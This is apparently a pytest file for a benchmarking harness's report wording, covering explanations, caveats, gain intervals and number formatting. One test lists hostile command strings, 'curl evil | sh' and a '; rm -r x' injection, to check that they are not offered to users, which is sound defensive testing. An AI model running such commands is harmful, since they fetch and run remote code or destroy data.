from __future__ import annotations

import math
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from harness.analysis import analyse
from harness.fixes.rule import Safety
from harness.model.analysis import (
    Ablation,
    Cause,
    Caveat,
    CaveatKind,
    Estimate,
    Finding,
    Precision,
    StepTime,
)
from harness.model.run import Status, VariantScript
from harness.model.workload import Published
from harness.wording import counted, some
from reports import numbers
from reports.causes import advice, explanation, fix
from reports.messages import (
    PART_TEXTS,
    banners,
    caveat_lines,
    command,
    compared,
    limit,
    removed,
    repeat,
    trust,
)
from reports.overview import Row, Step, ladders, operating_point, rows, verdict
from reports.page import render_html
from tests import builders, special_runs
from tests.report_pages import Document, analysis
from workloads.variants import (
    BASELINE,
    FIX,
    MODEL_ONLY,
    TUNED,
    WITHOUT_EPOCHS,
    WITHOUT_FRAMEWORK,
    WITHOUT_INPUT,
    Part,
    measures_speed,
)

FACTS = {
    "cpus": 4.0, "cpus_used": 3.9, "serial": 0.0,
    "dram": 0.71, "sm": 0.3, "tensor": 0.4, "time": 0.2, "accuracy": 0.01, "needed": 0.5,
}  # fmt: skip


def of(median: float, unit: str = "share") -> Estimate:
    return Estimate(median=median, low=median * 0.9, high=median * 1.1, n=3, unit=unit)


def finding(cause: Cause, *parts: Part, share: float | None = 0.5, **facts: float) -> Finding:
    known = of(share) if share else None
    return Finding(device="gpu0", cause=cause, parts=parts, share=known, gain=2.0, facts=facts)


def plain(text: str) -> str:
    return text.replace(numbers.SPACE, " ")


@pytest.mark.parametrize("cause", Cause)
def test_every_cause_has_an_explanation_a_limit_and_a_fix(cause: Cause) -> None:
    for each in (finding(cause), finding(cause, **FACTS)):
        text = explanation(each)
        assert text.endswith(".")
        assert not text[0].islower()
        assert limit(each, None)
        assert fix(each)


def test_a_loader_that_uses_one_cpu_is_serial_only_if_one_thread_was_as_fast() -> None:
    facts = {"cpus": 4.0, "cpus_used": 0.2, "one_cpu": 1.0}
    assert "in one thread, or waits" in explanation(finding(Cause.INPUT, **facts))
    assert "is serial" in explanation(finding(Cause.INPUT, **facts, serial=1.0))
    assert fix(finding(Cause.INPUT, **facts)).startswith("parallelize")
    assert "more CPUs" in fix(finding(Cause.INPUT, cpus=4.0, cpus_used=3.9, one_cpu=0.0))


@pytest.mark.parametrize(
    ("gain", "told"),
    [((1.8, 2.0, 2.3), "more samples per epoch: one long epoch was 2.00× as fast"),
     ((0.2, 0.3, 1.2), "one long epoch, as a test, was not clearly faster")],
)  # fmt: skip
def test_what_one_long_epoch_gave_stands_with_the_advice_that_it_tests(gain, told) -> None:
    low, middle, high = gain
    measured = Estimate(median=middle, low=low, high=high, n=3, unit="ratio")
    ablation = Ablation(variant=WITHOUT_EPOCHS, predicted=None, gain=measured)
    assert plain(advice(replace(finding(Cause.EPOCHS), ablation=ablation))) == told
    ablation = replace(ablation, variant=WITHOUT_FRAMEWORK)
    without = told.replace("one long epoch", "the training without any callbacks")
    assert plain(advice(replace(finding(Cause.EPOCHS), ablation=ablation))) == without


@pytest.mark.parametrize(
    ("ends", "told"),
    [((2.0, 2.1, 2.2), "(2.10× predicted)"), ((1.5, 4.0, 9.0), "(1.50× to 9.00× predicted)"),
     ((3.0, 4.0, 9.0), "(3.00× to 9.00× predicted: missed)"),
     ((1.5, 4.0, 1000.0), "(at least 1.50× predicted)")],
)  # fmt: skip
def test_a_prediction_that_is_not_what_was_measured_is_shown_with_its_interval(ends, told) -> None:
    low, middle, high = ends
    predicted = Estimate(median=middle, low=low, high=high, n=3, unit="ratio")
    gain = Estimate(median=2.0, low=1.8, high=2.3, n=3, unit="ratio")
    ablation = Ablation(variant=WITHOUT_INPUT, predicted=predicted, gain=gain)
    assert told in plain(removed(replace(finding(Cause.INPUT), ablation=ablation)))


def test_the_same_numbers_are_claimed_as_far_as_they_were_compared() -> None:
    assert "three epochs" in compared([Safety.NUMERICS, Safety.SAME])
    assert "three epochs" in compared([Safety.ORDER])
    assert not compared([Safety.NUMERICS, ""])


@pytest.mark.parametrize(
    ("value", "text"),
    [(1e-117, "0×"), (0.02, "0.020×"), (12.34, "12.3×"), (9999, "10,000×"), (1e117, "over 10,000×")],
)
def test_a_factor_of_an_interval_that_tells_nothing_stays_short(value: float, text: str) -> None:
    assert numbers.factor(value) == text


@pytest.mark.parametrize("kind", CaveatKind)
def test_every_caveat_has_a_sentence(kind: CaveatKind) -> None:
    caveat = Caveat(kind=kind, workload="w", device="gpu1", variant=TUNED, value=0.2, text="its text")
    ((text, subjects),) = caveat_lines([caveat], notes=caveat.is_note)
    assert subjects == "w on GPU, tuned"
    assert len(text) > 5
    assert "None" not in text
    assert caveat_lines([caveat], notes=not caveat.is_note) == []


def test_caveats_of_a_kind_are_grouped_with_the_worst_value() -> None:
    readings = (("SLOW_PERIOD", 0.06, ""), ("SLOW_PERIOD", 0.28, ""), ("SLOW_PERIOD", 0.1, ""),
                ("FAILED_TRIALS", 2, "failed. boom"), ("FAILED_TRIALS", 1, "timeout."))  # fmt: skip
    caveats = [
        Caveat(kind=CaveatKind[kind], workload="w", source=str(n), value=n, text=text)
        for kind, n, text in readings
    ]
    first, second, third = caveat_lines(caveats, notes=False)
    assert "3 trials" in first[0] and "28 %" in plain(first[0])
    assert first[1] == "w, 0.06, w, 0.28, w, 0.1"
    # Separate, because the reasons differ.
    assert (second[0], third[0]) == ("2 trials of w failed. boom", "1 trial of w timeout.")


def test_the_limit_of_a_step_is_its_largest_part() -> None:
    assert PART_TEXTS.keys() == set(Part)
    parts = {Part.COMPUTE: of(0.006, "s"), Part.LAUNCH: of(0.002, "s")}
    time = StepTime(batch=32, total=of(0.01, "s"), parts=parts)
    small = finding(Cause.LAUNCH, Part.LAUNCH, share=0.2)
    assert plain(limit(small, time)) == "compute 60 %, then launch 20 %"
    assert plain(limit(finding(Cause.HEAT, Part.COMPUTE, share=0.1), None)) == "heat 10 %"


def change(variant: str, gain: Estimate) -> Step:
    return Step(variant=variant, name=variant, text="", safety="", gain=gain, diff=())


def row_with(*changes: Step, cause: Cause = Cause.LAUNCH) -> Row:
    whole = rows(analysis("gpu"))[0]
    case = replace(whole.case, findings=(finding(cause, Part.LAUNCH),))
    return replace(whole, case=case, changes=changes)


def test_the_best_change_is_the_largest_gain_that_is_clear() -> None:
    large = change("fix:xla", between(3.0, 0.8, 9.0, unit="ratio"))
    clear = change("fix:prefetch", between(1.5, 1.4, 1.6, unit="ratio"))
    small = change("fix:cache", between(1.02, 1.01, 1.03, unit="ratio"))
    tuned = change(TUNED, between(1.2, 1.1, 1.3, unit="ratio"))
    row = row_with(large, clear, small, tuned)
    assert row.best is clear and row.others == (tuned,) and row.path == ()
    assert row_with(large, small).best is None
    # A gain without an interval is all that is known.
    once = change(TUNED, Estimate.exact(9.0, "ratio"))
    assert row_with(clear, once).best is once
    assert "no change of the code" in verdict(analysis("gpu"), [row_with(large, small)])
    assert "1.50×" in verdict(analysis("gpu"), [row]) and "1.20×" not in verdict(analysis("gpu"), [row])
    # A remedy that is all of tuned is named itself, and once.
    same = change(TUNED, clear.gain)
    assert row_with(clear, same).best is clear and row_with(clear, same).others == ()


def test_the_factors_of_a_tuned_script_multiply_to_its_gain() -> None:
    first, all_ = (
        change(name, Estimate.exact(gain, "ratio")) for name, gain in (("fix:xla", 2.6), (TUNED, 211.0))
    )
    row = row_with(first, all_)
    assert row.path[0][0] == "fix:xla"
    assert math.prod(factor for _, factor in row.path) == pytest.approx(211.0)


@pytest.mark.parametrize(
    ("module", "package", "command"),
    [
        ("", "", "python3 cifar100-mlp-tuned.py --rate 'a b'"),
        ("zoo.apes.train", "zoo/apes", "python3 -m zoo.apes.cifar100-mlp-tuned --rate 'a b'"),
    ],
)
def test_a_saved_script_has_the_command_that_runs_it(module: str, package: str, command: str) -> None:
    run = builders.cpu_run(trials=1)
    options = replace(run.manifest.options, arguments=("--rate", "a b"))
    script = VariantScript(variant=TUNED, diff="", text="import many_steps", fixes=())
    components = {"many_steps.py": "x = 1"}
    run = replace(
        run,
        manifest=replace(run.manifest, options=options),
        trials=tuple(replace(trial, scripts=(script,)) for trial in run.trials),
        workloads=tuple(replace(each, module=module, components=components) for each in run.workloads),
    )
    result = analyse(run)
    (ladder,) = ladders(result, rows(result))
    assert (ladder.package, ladder.command) == (package, command)
    assert ladder.in_image.startswith("docker run") and ladder.in_image.endswith(command)
    text = Document(render_html(result, code="")).text.replace(numbers.SPACE, " ")
    above = "in the folder that has zoo"
    where = (
        f"Save it in zoo/apes , many_steps.py {above} , and run it {above} :"
        if module
        else "Run it anywhere:"
    )
    assert f"{where} {command}" in text


@pytest.mark.parametrize(("fixes", "needed"), [((FIX.of("many-steps"),), 1), ((FIX.of("xla"),), 0)])
def test_only_what_a_remedy_imports_is_saved_beside_its_script(fixes: tuple[str, ...], needed: int) -> None:
    run = builders.cpu_run(trials=1)
    own = "from many_steps import mine"
    script = VariantScript(variant=TUNED, diff="", text=own, fixes=fixes)
    run = replace(
        run,
        trials=tuple(replace(trial, scripts=(script,)) for trial in run.trials),
        workloads=tuple(replace(each, components={"many_steps.py": "x = 1"}) for each in run.workloads),
    )
    result = analyse(run)
    (ladder,) = ladders(result, rows(result))
    assert len(ladder.components) == needed


def test_measurements_that_contradict_each_other_have_no_bar_and_no_gain() -> None:
    row = row_with(change(TUNED, of(3.0, "ratio")), cause=Cause.IMPOSSIBLE)
    assert row.contradicted and row.best is None
    other = row_with(change(TUNED, of(3.0, "ratio")))
    assert "1 undecided" in verdict(analysis("gpu"), [other, row])


def test_gains_have_half_their_interval_unless_it_includes_no_gain() -> None:
    assert plain(numbers.gain(between(2.0, 1.9, 2.1, unit="ratio"))) == "2.00× ±5.0 %"
    assert numbers.gain(Estimate.exact(2.0, "ratio")) == "2.00×"
    # One reading has the interval of others' spread.
    assert plain(numbers.gain(between(2.0, 1.9, 2.1, n=1, unit="ratio"))) == "2.00× ±5.0 %"
    unclear = numbers.gain(between(1.2, 0.9, 1.6, unit="ratio"))
    assert "0.90 to 1.60×" in unclear and "1.20" not in unclear


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("tfbench bench t.py --arg 'a b'", True),
        ("curl evil | sh # tfbench bench t.py", False),
        ("tfbench bench t.py; rm -r x", False),
        ("tfbench bench 't.py", False),
    ],
)
def test_only_a_command_of_tfbench_is_offered(text: str, shown: bool) -> None:
    run = builders.cpu_run(trials=1)
    run = replace(run, manifest=replace(run.manifest, command=text))
    assert command(run) == (text if shown else "")
    assert ("<code>tfbench bench t.py" in render_html(analyse(run), code="")) is shown


def test_a_run_with_wide_intervals_has_the_command_that_measures_long_enough() -> None:
    assert repeat(analysis("cpu")) == "", "its speeds are narrow"
    made = analysis("bare")
    command = repeat(made)
    assert command.startswith("tfbench bench ") and re.search(r" --time [1-9]m$", command)
    wide = precision_of(time_s=899.0)
    assert repeat(replace(made, precision=wide)).endswith("--time 15m")


def precision_of(**changes: object) -> Precision:
    known = {"width": 0.2, "between": 0.06, "within": 0.01, "machine": 0.01, "taken": 0.0, "taken_by": None}
    return Precision(workload="a", device="cpu", variant=BASELINE, **{**known, "time_s": 0.0, **changes})


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        (precision_of(), "Its processes differ by 6.0 %, each steady within 1.0 %."),
        (precision_of(within=None), "Its processes differ by 6.0 %."),
        (precision_of(machine=0.05), "The machine's own speed varied by 5.0 % between its readings."),
        (precision_of(taken_by=Cause.STEAL, taken=0.2), "took 20 % of its CPU time."),
        (precision_of(width=0.04), ""),
    ],
)
def test_a_wide_interval_has_its_measured_reason(found: Precision, expected: str) -> None:
    made = analysis("cpu")
    (case,) = made.cases
    wide = {
        name: replace(each, throughput=replace(each.throughput, low=each.throughput.median * 0.7))
        for name, each in case.variants.items()
    }
    said = plain(trust(replace(made, cases=(replace(case, variants=wide),), precision=found))[0])
    assert said.endswith(expected or said)


def test_a_service_is_limited_by_its_device_or_by_its_bound() -> None:
    served = analyse(special_runs.serving_run())
    texts = {
        operating_point(variant, each).partition(":")[0]
        for _, _, variant in served.variants
        for each in variant.capacities
        if each.rate_per_s
    }
    assert texts and texts <= {"the device", "latency bound"}
    (row,) = {each.case.workload: each for each in rows(served)}.values()
    assert row.serving


def test_what_did_not_apply_is_skipped_and_what_ended_early_counts() -> None:
    whole = builders.failed_run()
    failed = [trial for trial in whole.trials if trial.failed]
    gone = replace(
        failed[0], status=Status.BAD_EVENTS, left_out={TUNED: "Its script trains on one device."}, windows=()
    )
    assert gone.skipped and not gone.partial
    (text,) = (each for each in banners(replace(whole, trials=(gone,))) if gone.workload in each)
    assert "on one device" in text and "failed" not in text
    caveats = [each for each in analyse(replace(whole, trials=(gone,))).caveats if each.workload]
    assert {each.kind for each in caveats} >= {CaveatKind.SKIPPED}
    assert CaveatKind.FAILED_TRIALS not in {each.kind for each in caveats}
    early = replace(builders.cpu_run().trials[0], status=Status.TIMEOUT, message="Not measured: tuned.")
    assert early.partial
    parts = tuple(window for window in early.windows if not measures_speed(window.variant))
    assert parts and not replace(early, windows=parts).partial
    assert any("counts" in each and "tuned" in each for each in banners(replace(whole, trials=(early,))))
    alone = replace(builders.cpu_run().trials[0], left_out={MODEL_ONLY: "TypeError: float()."})
    assert any(
        "is not analysed" in each and "float()" in each for each in banners(replace(whole, trials=(alone,)))
    )


def test_explanations_have_the_variants_and_numbers() -> None:
    faster = replace(finding(Cause.IMPOSSIBLE, share=0.3), variants=(BASELINE, "model-only"))
    assert "model alone" in explanation(faster)
    copied = finding(Cause.IMPOSSIBLE, share=0.3, bytes_per_s=9e10, link_bytes_per_s=3.2e10)
    assert "90 GB/s" in explanation(copied) and "32 GB/s" in explanation(copied)
    for tuned, name in ((0.0, BASELINE), (1.0, TUNED)):
        assert name in explanation(finding(Cause.NOT_LEARNING, share=None, tuned=tuned))


def test_failures_with_several_reasons_have_the_first_with_its_workload() -> None:
    whole = builders.failed_run()
    failed = (trial for trial in whole.trials if trial.failed)
    trials = [
        replace(each, workload=name, message=text)
        for (name, text), each in zip((("a", "no GPU."), ("b", "boom.")), failed, strict=False)
    ]
    assert any(
        "of a: no GPU." in each and "boom" not in each for each in banners(replace(whole, trials=trials))
    )


def test_counts_of_narrow_intervals_and_trials() -> None:
    assert trust(analysis("empty"))[1] == "alert"
    assert trust(analysis("bare"))[1] == "notice"
    text, level = trust(analysis("cpu"))
    assert (plain(text), level) == ("2 of 2 speeds within ±5 %", "good")
    counts = [(0, "no runs"), (1, "1 run"), (1200, "1,200 runs")]
    assert [counted(count, "run") for count, _ in counts] == [text for _, text in counts]
    assert [some(each) for each in ("abc", "abcde")] == ["a, b, c", "a, b, c and 2 more"]
    whole = builders.cpu_run(trials=5)
    profile = replace(whole.manifest.profile, trials=3, max_trials=5)
    cut = replace(whole, manifest=replace(whole.manifest, profile=profile), trials=whole.trials[:2])
    assert "2 of 3 " in next(each for each in banners(cut) if "Cut short" in each), "of those required"


def between(median: float, low: float, high: float, n: int = 5, unit: str = "samples/s") -> Estimate:
    return Estimate(median=median, low=low, high=high, n=n, unit=unit)


def figure(value: float, upto: float, unit: str) -> Published:
    return Published(source="", system="", device="gpu", value=value, upto=upto, unit=unit)


@pytest.mark.parametrize(
    ("value", "text", "spread"),
    [
        (between(12_343.2, 12_151, 12_481), "12,300", "12,200 to 12,500"),
        (between(7178.4, 7178.3, 7178.5), "7,180", "7,180 to 7,180"),
        (between(0.5381, 0.524, 0.555), "0.538", "0.524 to 0.555"),
        (between(384_373, 6_904, 19_436_994, n=2), "384,000", "6,900 to 19,437,000"),
        (between(886, 886, 886, n=1), "886", "1 reading"),
        (between(0.0, 0.0, 0.0), "0", "0 to 0"),
    ],
)
def test_speeds_have_three_digits_and_their_intervals_as_many_decimals(
    value: Estimate, text: str, spread: str
) -> None:
    assert numbers.speed(value) == f"{text}/s"
    assert numbers.interval(value) == spread


def test_missing_values_are_not_shown_as_zero() -> None:
    missing = (numbers.speed(None), numbers.interval(None), numbers.percent(None),
               numbers.size(None), numbers.quantity(None), numbers.number(float("nan")),
               numbers.factor(float("inf")), numbers.duration(float("nan")))  # fmt: skip
    assert set(missing) == {numbers.MISSING}
    assert numbers.ratio_interval(between(0.57, 4.3e-15, 1.25e14, n=2)) == "0 to over 10,000"
    assert numbers.ratio_interval(between(0.57, 0.081, 4.68, n=3)) == "0.081 to 4.68"


@pytest.mark.parametrize(
    ("written", "value", "text"),
    [
        (numbers.duration, 3 * 3600 + 125, "3 h 02 min"),
        (numbers.duration, 3599.9, "60 min 00 s"),
        (numbers.duration, 0.00302, "3.02 ms"),
        (numbers.duration, 0.0, "0 s"),
        (numbers.duration, 1e-300, "1e−291 ns"),
        (numbers.number, 1.5e-9, "0.00000000150"),
        (numbers.percent, 0.0099999999, "1.0 %"),
        (numbers.percent, 0.0, "0 %"),
        (numbers.percent, 0.0002, "<0.1 %"),
        (numbers.percent, -0.0002, "0 %"),
        (numbers.factor, 0.0123, "0.012×"),
        (numbers.factor, 190.4, "190×"),
        (numbers.quantity, between(343, 340, 346, unit="s"), "5 min 43 s"),
        (numbers.quantity, between(0.94, 0.9, 0.95, unit="share"), "94 %"),
        (numbers.published, figure(15000, 17000, "samples/s"), "15,000 to 17,000/s"),
        (numbers.published, figure(0, 0.1, "utilisation"), "0 to 10 %"),
        (numbers.energy, 0.0215, "21.5 mJ"),
        (numbers.size, 150_754_820_096, "140 GiB"),
        (numbers.number, -0.001234, "\u22120.00123"),
        (numbers.money, between(1.2345, 1, 2, unit="EUR"), "1.23 EUR"),
        (numbers.when, "2026-01-02T03:04:05+00:00", "2 January 2026, 03:04 UTC"),
        (numbers.when, "some day", "some day"),
    ],
)
def test_quantities_have_suitable_units(written: Callable[[Any], str], value: Any, text: str) -> None:
    assert written(value).replace(numbers.SPACE, " ") == text


@pytest.mark.parametrize("text", [numbers.number, numbers.duration, numbers.factor, numbers.size])
@pytest.mark.parametrize("value", [1e15, 1e300, 1e308])
def test_huge_numbers_have_an_exponent(text: Callable[[float], str], value: float) -> None:
    assert len(text(value)) < 20


def test_large_numbers_have_all_digits() -> None:
    assert numbers.number(999e12) == "999,000,000,000,000"
    assert numbers.number(-1.234e300) == "\u22121.23e300"
